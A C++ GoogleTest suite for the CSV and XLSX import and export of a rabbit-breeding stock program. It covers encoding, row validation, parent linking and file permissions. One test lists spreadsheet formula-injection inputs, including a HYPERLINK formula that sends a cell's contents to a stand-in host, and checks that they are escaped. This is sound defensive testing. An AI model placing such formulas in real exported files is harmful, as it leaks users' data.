#include "exchange/exchange_import.h"
#include "exchange/spreadsheet.h"

#include "engine/cursor.h"
#include "support/stock_fixture.h"

#include <QDir>
#include <QFile>

#include <sys/stat.h>

#include <gtest/gtest.h>

using namespace lapiro;
using namespace lapiro::exchange;

namespace {

std::vector<CsvColumn> columns(std::initializer_list<CsvColumn> c) { return c; }

QString errorsOf(const CsvImport& r) {
  QStringList s;
  for (const CsvRowError& e : r.errors) s << QStringLiteral("%1: %2").arg(e.line).arg(e.message);
  return s.join(u'\n');
}

}  // namespace

TEST(CsvReading, SemicolonAndWindows1252UmlautsAreDetected) {
  // "Häsin" and "Jürgen" in Windows-1252, a quoted field with the separator and a doubled quote.
  const QByteArray bytes = "T\xE4to rechts;Name;Geschlecht\r\n"
                           "H 12;\"J\xFCrgen; \"\"der Gro\xDF\x65\"\"\";H\xE4sin\r\n"
                           ";;\r\n"
                           "\x80 5;x;1\r\n";
  const CsvTable t = readCsv(bytes);
  EXPECT_EQ(t.separator, u';');
  EXPECT_EQ(t.encoding, TextEncoding::Windows1252);
  ASSERT_EQ(t.rows.size(), 3u);  // the empty row is dropped
  EXPECT_EQ(t.rows[0][0], QStringLiteral("Täto rechts"));
  EXPECT_EQ(t.rows[1][1], QStringLiteral("Jürgen; \"der Große\""));
  EXPECT_EQ(t.rows[1][2], QStringLiteral("Häsin"));
  EXPECT_EQ(t.rows[2][0], QStringLiteral("€ 5"));
}

TEST(CsvReading, Utf8WithByteOrderMarkAndCommaSeparator) {
  const CsvTable t = readCsv(QStringLiteral("\xFEFFTäto links,Geschlecht\n\"3.5.12\",Häsin\n").toUtf8());
  EXPECT_EQ(t.separator, u',');
  EXPECT_EQ(t.encoding, TextEncoding::Utf8);
  ASSERT_EQ(t.rows.size(), 2u);
  EXPECT_EQ(t.rows[0][0], QStringLiteral("Täto links"));
  EXPECT_EQ(t.rows[1][1], QStringLiteral("Häsin"));
  EXPECT_EQ(guessMapping(t.rows[0]), columns({CsvColumn::TatoLinks, CsvColumn::Geschlecht}));
  EXPECT_EQ(guessMapping({QStringLiteral("Vater Täto rechts"), QStringLiteral("WURFGRÖSSE"), QStringLiteral("Bemerkung")}),
            columns({CsvColumn::VaterRechts, CsvColumn::Wurfgroesse, CsvColumn::Ignore}));
}

TEST(CsvImportCheck, EveryRowIsCheckedAndErrorsNameTheLine) {
  test::StockDirectory s;
  s.add(QStringLiteral("Rasse"), {{QStringLiteral("Name"), QStringLiteral("Deutsche Riesen")}, {QStringLiteral("Code"), QStringLiteral("DR")}});
  s.animal(QStringLiteral("R1"), QStringLiteral("1.1.1"), {{QStringLiteral("Geschlecht"), QStringLiteral("1")}});
  s.animal(QStringLiteral("D1"), QStringLiteral("1.1.2"));
  s.animal(QStringLiteral("D1"), QStringLiteral("1.1.2"), {{QStringLiteral("Geburtstag"), QDate(2021, 1, 1)}});
  const CsvTable t = readCsv(QStringLiteral("Täto rechts;Täto links;Geburtstag;Geschlecht;Rasse;Vater Täto rechts;Vater Täto links;"
                                            "Mutter Täto rechts;Mutter Täto links\n"
                                            "K1;3.5.12;01.03.2025;0.1;DR;R1;1.1.1;;\n"      // line 2: stock father
                                            "K2;13.5.1;2025-02-30;x;Zwerg;;;;\n"           // line 3: four faults
                                            "K3;4.5.1;;1.0;dr;;;D1;1.1.2\n"                // line 4: ambiguous mother
                                            "K4;4.5.2;;1;;K1;3.5.12;;\n"                   // line 5: doe as father
                                            "K5;4.5.3;;2;;;;K9;9.9.9\n")                    // line 6: unknown mother
                                 .toUtf8());
  const CsvImport r = csvToExchange(s.engine, t, guessMapping(t.rows[0]));
  EXPECT_EQ(r.rows, 5);
  const QString e = errorsOf(r);
  EXPECT_FALSE(e.contains(QStringLiteral("2:"))) << e.toStdString();
  EXPECT_TRUE(e.contains(QStringLiteral("3: Täto links \"13.5.1\" hat nicht die Form"))) << e.toStdString();
  EXPECT_TRUE(e.contains(QStringLiteral("3: Geburtstag \"2025-02-30\" ist kein Datum")));
  EXPECT_TRUE(e.contains(QStringLiteral("3: Geschlecht \"x\" ist unbekannt")));
  EXPECT_TRUE(e.contains(QStringLiteral("3: Rasse \"Zwerg\" ist nicht in der Rassenliste")));
  EXPECT_TRUE(e.contains(QStringLiteral("4: Mutter \"D1  1.1.2\" ist im Bestand mehrdeutig")));
  EXPECT_TRUE(e.contains(QStringLiteral("5: Vater \"K1  3.5.12\" ist kein Rammler")));
  EXPECT_TRUE(e.contains(QStringLiteral("6: Mutter \"K9  9.9.9\" ist weder in der Tabelle noch im Bestand")));
}

TEST(CsvImportCheck, CleanTableImportsWithParentsLinkedToTableAndStock) {
  test::StockDirectory s;
  test::TempDir logs;
  const qint64 breed =
      s.add(QStringLiteral("Rasse"), {{QStringLiteral("Name"), QStringLiteral("Deutsche Riesen")}, {QStringLiteral("Code"), QStringLiteral("DR")}});
  const qint64 buck = s.animal(QStringLiteral("R1"), QStringLiteral("1.1.1"), {{QStringLiteral("Geschlecht"), QStringLiteral("1")}});
  const CsvTable t = readCsv("Täto rechts;Täto links;Geschlecht;Rasse;Farbe;Vater Täto rechts;Vater Täto links;Mutter Täto rechts;Mutter Täto links\n"
                             "K1;3.5.12;Häsin;Deutsche Riesen;grau;R1;1.1.1;;\n"
                             "J1;4.6.1;1;DR;;R1;1.1.1;K1;3.5.12\n");
  const CsvImport r = csvToExchange(s.engine, t, guessMapping(t.rows[0]));
  ASSERT_TRUE(r.errors.empty()) << errorsOf(r).toStdString();
  ImportOptions o;
  const ImportPlan plan = planImport(s.engine, r.file, o);
  EXPECT_EQ(plan.count(RecordState::New), 2);
  EXPECT_EQ(plan.count(RecordState::Present), 1);  // the stock father, left as it is
  const ImportResult done = runImport(s.engine, r.file, plan, o, logs.path(), QStringLiteral("tiere.csv"));
  ASSERT_TRUE(done.ok) << done.error.toStdString();
  EXPECT_EQ(s.rowCount(QStringLiteral("Hasen")), 3);
  EXPECT_EQ(s.rowCount(QStringLiteral("Rasse")), 1);
  const qint64 k1 = 2, j1 = 3;
  EXPECT_EQ(s.stored(QStringLiteral("Hasen"), k1, QStringLiteral("Vater")).toLongLong(), buck);
  EXPECT_EQ(s.stored(QStringLiteral("Hasen"), k1, QStringLiteral("Rasse")).toLongLong(), breed);
  EXPECT_EQ(s.stored(QStringLiteral("Hasen"), j1, QStringLiteral("Mutter")).toLongLong(), k1);
  EXPECT_EQ(s.stored(QStringLiteral("Hasen"), j1, QStringLiteral("Geschlecht")).toString(), QStringLiteral("1"));
}

TEST(SpreadsheetWriting, AnimalListAsShownGoesToCsvAndXlsx) {
  test::StockDirectory s;
  test::TempDir out;
  s.animal(QStringLiteral("B; \"2\""), QStringLiteral("1.1.2"), {{QStringLiteral("IDCode"), QStringLiteral("Bärbel")}});
  s.animal(QStringLiteral("A1"), QStringLiteral("1.1.1"), {{QStringLiteral("Geburtstag"), QDate(2024, 5, 6)}});
  engine::Cursor c(s.engine);
  c.setTableName(QStringLiteral("Hasen"));
  c.setIndexFieldNames(QStringLiteral("TatoLinks"));
  c.open();
  const Sheet sheet = sheetOf(c, {{QStringLiteral("TatoRechts"), QStringLiteral("Täto Re")},
                                  {QStringLiteral("IDCode"), QStringLiteral("Name")},
                                  {QStringLiteral("Geburtstag"), QStringLiteral("Geburtstag")}});
  ASSERT_EQ(sheet.rows.size(), 2u);
  EXPECT_EQ(sheet.rows[0], (QStringList{QStringLiteral("A1"), QString(), QStringLiteral("06.05.2024")}));  // the list's order
  const QString csv = out.file(QStringLiteral("tiere.csv"));
  ASSERT_EQ(writeCsv(sheet, csv), QString());
  QFile f(csv);
  ASSERT_TRUE(f.open(QIODevice::ReadOnly));
  const QByteArray bytes = f.readAll();
  EXPECT_TRUE(bytes.startsWith("\xEF\xBB\xBFT\xC3\xA4to Re;Name;Geburtstag\r\n"));
  // What we write reads back the same.
  const CsvTable back = readCsv(bytes);
  ASSERT_EQ(back.rows.size(), 3u);
  EXPECT_EQ(back.rows[2], sheet.rows[1]);
  const QString xlsx = out.file(QStringLiteral("tiere.xlsx"));
  ASSERT_EQ(writeXlsx(sheet, xlsx), QString());
  QFile x(xlsx);
  ASSERT_TRUE(x.open(QIODevice::ReadOnly));
  EXPECT_TRUE(x.read(2) == "PK");  // a zip container
  EXPECT_FALSE(writeXlsx(sheet, out.file(QStringLiteral("fehlt/x.xlsx"))).isEmpty());
}

TEST(CsvImportCheck, EveryRowIsComparedWithEveryOtherAndParentsMustBeUnambiguous) {
  test::StockDirectory s;
  // Three rows of the same tattoos; the second and third share their birth date.
  const CsvTable t = readCsv(QStringLiteral("Täto rechts;Täto links;Geburtstag;Geschlecht;Mutter Täto rechts;Mutter Täto links\n"
                                            "K1;3.5.12;01.03.2025;2;;\n"
                                            "K1;3.5.12;02.03.2025;2;;\n"
                                            "K1;3.5.12;2025-03-02;2;;\n"
                                            "J1;4.6.1;01.04.2025;1;K1;3.5.12\n")
                                 .toUtf8());
  const CsvImport r = csvToExchange(s.engine, t, guessMapping(t.rows[0]));
  const QString e = errorsOf(r);
  EXPECT_TRUE(e.contains(QStringLiteral("4: das Tier steht zweimal in der Datei (auch in Zeile 3)"))) << e.toStdString();
  EXPECT_FALSE(e.contains(QStringLiteral("3: das Tier"))) << e.toStdString();
  EXPECT_TRUE(e.contains(QStringLiteral("5: Mutter \"K1  3.5.12\" ist in der Tabelle mehrdeutig (3 Zeilen)"))) << e.toStdString();
}

TEST(CsvImportCheck, ControlCharactersAndDatesOutsideTheExchangeRuleAreRefused) {
  test::StockDirectory s;
  QString text = QStringLiteral("Täto rechts;Täto links;Geburtstag;Geschlecht;Name;Bemerkung\n"
                                "N%1X;1.1.1;;1;;\n"                // line 2: NUL in a tattoo
                                "A2;1.1.2;;1;\"Gre\nte\";\n"        // line 3: line break in a name
                                "A3;1.1.3;0022-01-01;1;;\n"         // line 4: year 22
                                "A4;1.1.4;31.12.9999;1;;\n"         // line 5: year 9999
                                "A5;1.1.5;1.3.25;1;Gre\tte;x%1y\n")  // line 6: fine (tab; ignored column)
                     .arg(QChar(0));
  const CsvTable t = readCsv(text.toUtf8());
  ASSERT_EQ(t.rows.size(), 6u);
  const CsvImport r = csvToExchange(s.engine, t, guessMapping(t.rows[0]));
  const QString e = errorsOf(r);
  EXPECT_TRUE(e.contains(QStringLiteral("2: Unzulässiges Steuerzeichen U+0000 in der Spalte \"Täto rechts\""))) << e.toStdString();
  EXPECT_TRUE(e.contains(QStringLiteral("3: Zeilenumbruch in einem einzeiligen Feld in der Spalte \"Name\""))) << e.toStdString();
  EXPECT_TRUE(e.contains(QStringLiteral("4: Geburtstag \"0022-01-01\" ist kein Datum"))) << e.toStdString();
  EXPECT_TRUE(e.contains(QStringLiteral("5: Geburtstag \"31.12.9999\" ist kein Datum"))) << e.toStdString();
  EXPECT_FALSE(e.contains(QStringLiteral("6:"))) << e.toStdString();
  EXPECT_EQ(r.file.animals.back().birthDate, QDate(2025, 3, 1));
}

TEST(SpreadsheetWriting, CellsASpreadsheetWouldTakeAsFormulasStayText) {
  test::TempDir out;
  Sheet sheet;
  sheet.header << QStringLiteral("Wert");
  const QStringList cells{QStringLiteral("=2*21"), QStringLiteral("=HYPERLINK(\"http://x.invalid/?\"&A1)"),
                          QStringLiteral("+1+2"),  QStringLiteral("@SUM(A1)"),
                          QStringLiteral("-x"),    QStringLiteral("\tTab"),
                          QStringLiteral("\r=1"),  QStringLiteral("-12"),
                          QStringLiteral("+3,5"),  QStringLiteral("-1.234,56"),
                          QStringLiteral("A=1"),   QStringLiteral("2-1")};
  for (const QString& c : cells) sheet.rows.push_back({c});
  const QString csv = out.file(QStringLiteral("tiere.csv"));
  ASSERT_EQ(writeCsv(sheet, csv), QString());
  QFile f(csv);
  ASSERT_TRUE(f.open(QIODevice::ReadOnly));
  const CsvTable back = readCsv(f.readAll());
  ASSERT_EQ(back.rows.size(), cells.size() + 1u);
  const QStringList expected{QStringLiteral("'=2*21"), QStringLiteral("'=HYPERLINK(\"http://x.invalid/?\"&A1)"),
                             QStringLiteral("'+1+2"),  QStringLiteral("'@SUM(A1)"),
                             QStringLiteral("'-x"),    QStringLiteral("'\tTab"),
                             QStringLiteral("'\r=1"),  QStringLiteral("-12"),
                             QStringLiteral("+3,5"),   QStringLiteral("-1.234,56"),
                             QStringLiteral("A=1"),    QStringLiteral("2-1")};
  for (int i = 0; i < cells.size(); ++i) EXPECT_EQ(back.rows[i + 1].value(0), expected[i]) << i;
}

TEST(SpreadsheetWriting, CsvAndXlsxBothFollowTheUmask) {
  test::TempDir out;
  Sheet sheet;
  sheet.header << QStringLiteral("A");
  sheet.rows.push_back({QStringLiteral("1")});
  const mode_t old = ::umask(027);
  const QString csv = out.file(QStringLiteral("t.csv"));
  const QString xlsx = out.file(QStringLiteral("t.xlsx"));
  const QString csvError = writeCsv(sheet, csv);
  const QString xlsxError = writeXlsx(sheet, xlsx);
  ::umask(old);
  ASSERT_EQ(csvError, QString());
  ASSERT_EQ(xlsxError, QString());
  struct stat c {}, x {};
  ASSERT_EQ(::stat(QFile::encodeName(csv).constData(), &c), 0);
  ASSERT_EQ(::stat(QFile::encodeName(xlsx).constData(), &x), 0);
  EXPECT_EQ(c.st_mode & 0777, 0640u);
  EXPECT_EQ(x.st_mode & 0777, 0640u);
  EXPECT_EQ(QDir(out.path()).entryList(QDir::Files | QDir::Hidden).size(), 2);  // no temporary left
}
